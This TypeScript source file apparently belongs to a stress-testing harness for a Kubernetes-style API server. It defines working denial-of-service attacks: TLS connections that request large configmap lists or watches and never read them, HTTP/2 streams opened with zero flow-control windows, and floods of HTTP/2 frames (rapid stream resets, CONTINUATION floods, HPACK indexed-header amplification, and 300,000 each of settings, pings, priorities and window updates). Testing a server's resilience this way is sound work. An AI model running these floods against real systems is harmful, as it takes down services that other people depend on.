/** Clients that read slowly or never, and floods of small HTTP/2 frames. */

import type { TLSSocket } from 'node:tls';
import { connect } from 'node:tls';
import { type Attack, NAMESPACE, pause } from '../attack.ts';
import type { Target } from '../target.ts';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  field,
  flood,
  frame,
  get,
  indexed,
  MAX_PAYLOAD,
  openConnection,
  setting,
  uint32,
} from './http2-frames.ts';

const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;
const INITIAL_WINDOW_SIZE = 4;
/** Milliseconds; longer than the server waits for a client that does not read. */
const LONG = 45_000;

/** Pieces generated lazily while sending. */
function* times(count: number, piece: (i: number) => Uint8Array): Generator<Uint8Array> {
  for (let i = 0; i < count; i++) yield piece(i);
}

const stream = (i: number) => 2 * i + 1;

/** Floods a connection with frames; the result says whether the server closed it. */
function flooded(
  name: string,
  pieces: (target: Target) => Iterable<Uint8Array>,
  { reads = true }: { readonly reads?: boolean } = {},
): Attack {
  return {
    name: `http2: ${name}`,
    run: async (target) => {
      const socket = await openConnection(target);
      if (reads) socket.resume();
      else socket.pause();
      await flood(socket, pieces(target), 10_000);
      await Promise.race([new Promise((closed) => socket.once('close', closed)), pause(3_000)]);
      const end = socket.destroyed ? 'cut' : 'borne';
      socket.destroy();
      return end;
    },
  };
}

/** Counts the connections that the server has closed after a while. */
async function heldOpen(sockets: readonly TLSSocket[]): Promise<string> {
  await pause(LONG);
  let cut = 0;
  for (const socket of sockets) {
    if (socket.destroyed) cut++;
    else socket.once('close', () => cut++);
    // A client notices the end only after reading everything before it.
    socket.resume();
  }
  for (let seen = -1; seen < cut; await pause(3_000)) seen = cut;
  for (const socket of sockets) socket.destroy();
  return `${cut} of ${sockets.length} cut`;
}

function connectPlainly({ url }: Target): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const { hostname: host, port } = url;
    const socket = connect({ host, port: Number(port), rejectUnauthorized: false }, () => resolve(socket));
    socket.once('error', reject).on('error', () => socket.destroy());
  });
}

/** HTTP/1.1 connections that send a request and never read. */
async function unread1(target: Target, count: number, path: string): Promise<TLSSocket[]> {
  const sockets: TLSSocket[] = [];
  for (let i = 0; i < count; i++) {
    const socket = await connectPlainly(target);
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${target.tokens.admin}\r\n\r\n`);
    sockets.push(socket);
  }
  return sockets;
}

/** HTTP/2 connections with empty flow-control windows and many streams, each with a request. */
async function unread2(target: Target, count: number, streams: number, path: string): Promise<TLSSocket[]> {
  const sockets: TLSSocket[] = [];
  for (let i = 0; i < count; i++) {
    const socket = await openConnection(target, setting(INITIAL_WINDOW_SIZE, 0));
    socket.resume();
    const asked = get(target, path);
    const ask = (at: number) => frame(FRAME.headers, END_HEADERS | END_STREAM, stream(at), asked);
    await flood(socket, times(streams, ask), 10_000);
    sockets.push(socket);
  }
  return sockets;
}

const aMap = (i: number) => `{"metadata":{"name":"unread-${i}"},"data":{"k":"${'x'.repeat(700_000)}"}}`;

/** Creates objects for a list of some 14 MB before the attack, and deletes them afterwards. */
function beside(name: string, run: (target: Target) => Promise<string>): Attack {
  return {
    name: `readers: ${name}`,
    run: async (target) => {
      for (let i = 0; i < 20; i++) await target.send({ path: CONFIG_MAPS, body: aMap(i) });
      const answers = await run(target);
      await target.send({ method: 'DELETE', path: CONFIG_MAPS, sender: 'clusterAdmin' });
      return answers;
    },
  };
}

export function readerAttacks(): Attack[] {
  return [
    beside('60 connections that never read a list', async (target) =>
      heldOpen(await unread1(target, 60, CONFIG_MAPS)),
    ),
    beside('100 connections that never read a watch', async (target) =>
      heldOpen(await unread1(target, 100, `${CONFIG_MAPS}?watch=1`)),
    ),
    beside('5 connections of 100 streams without a window, each a list', async (target) =>
      heldOpen(await unread2(target, 5, 100, CONFIG_MAPS)),
    ),
    beside('5 connections of 100 streams without a window, each a watch', async (target) =>
      heldOpen(await unread2(target, 5, 100, `${CONFIG_MAPS}?watch=1`)),
    ),
    flooded('50,000 streams that are reset at once', (target) => {
      const asked = get(target, CONFIG_MAPS);
      return times(50_000, (i) =>
        Buffer.concat([
          frame(FRAME.headers, END_HEADERS | END_STREAM, stream(i), asked),
          frame(FRAME.reset, 0, stream(i), uint32(8)),
        ]),
      );
    }),
    flooded('fields that go on in 2,000 frames', (target) =>
      times(2_000, (i) => {
        const first = frame(FRAME.headers, END_STREAM, 1, get(target, CONFIG_MAPS));
        return i === 0 ? first : frame(FRAME.continuation, 0, 1, field('x', 'y'.repeat(MAX_PAYLOAD - 100)));
      }),
    ),
    flooded('empty frames of fields that go on', (target) =>
      times(500_000, (i) =>
        i === 0
          ? frame(FRAME.headers, END_STREAM, 1, get(target, CONFIG_MAPS))
          : frame(FRAME.continuation, 0, 1),
      ),
    ),
    flooded('one kept field of 4 KB, named 10,000 times in each of 50 streams', (target) =>
      times(50, (i) => {
        const kept = i === 0 ? [field('x-a', 'y'.repeat(3_900), 64)] : [];
        const fields = Buffer.concat([get(target, CONFIG_MAPS), ...kept, ...Array(10_000).fill(indexed(62))]);
        return frame(FRAME.headers, END_HEADERS | END_STREAM, stream(i), fields.subarray(0, MAX_PAYLOAD));
      }),
    ),
    flooded('300,000 settings', () => times(300_000, () => frame(FRAME.settings, 0, 0, setting(3, 100)))),
    flooded('300,000 pings', () => times(300_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)))),
    flooded(
      '300,000 pings whose answers nobody reads',
      () => times(300_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
      { reads: false },
    ),
    flooded('300,000 priorities', () =>
      times(300_000, (i) => frame(FRAME.priority, 0, stream(i % 1000), Buffer.alloc(5, 1))),
    ),
    flooded('300,000 windows that grow by a byte', () =>
      times(300_000, () => frame(FRAME.windowUpdate, 0, 0, uint32(1))),
    ),
    flooded('empty data without an end', (target) =>
      times(300_000, (i) =>
        i === 0 ? frame(FRAME.headers, END_HEADERS, 1, get(target, CONFIG_MAPS)) : frame(FRAME.data, 0, 1),
      ),
    ),
  ];
}
